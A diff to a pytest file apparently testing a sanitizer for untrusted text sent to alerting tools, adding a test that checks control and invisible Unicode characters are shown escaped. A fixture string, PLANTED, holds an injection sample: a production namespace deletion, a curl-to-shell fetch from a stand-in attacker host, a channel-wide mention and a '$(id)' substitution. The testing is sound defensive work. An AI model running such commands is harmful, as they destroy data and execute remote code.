@@ -2,7 +2,7 @@
 
 import pytest
 
-from exporter.untrusted import identifier, message, model_name, one_line, printable
+from exporter.untrusted import identifier, message, model_name, one_line, printable, spelled_out
 
 PLANTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
 LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
@@ -100,3 +100,18 @@ def test_a_message_made_to_be_slow_is_not():
 def test_a_message_begins_no_template(text):
     """PagerDuty's details are expanded twice by Alertmanager 0.31."""
     assert "{{" not in message(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("plain ä", "plain ä"),
+        ("a\nb\x1b[2J", r"a\nb\x1b[2J"),
+        ("\u202e\u2028\u200b", r"\u202e\u2028\u200b"),
+        ("\u3164", r"\u3164"),  # drawn as nothing
+        ("\udcff", r"\udcff"),
+    ],
+)
+def test_what_a_terminal_would_obey_or_not_show_is_spelled_out(text, shown):
+    """So that a reader sees what is there."""
+    assert spelled_out(text) == shown
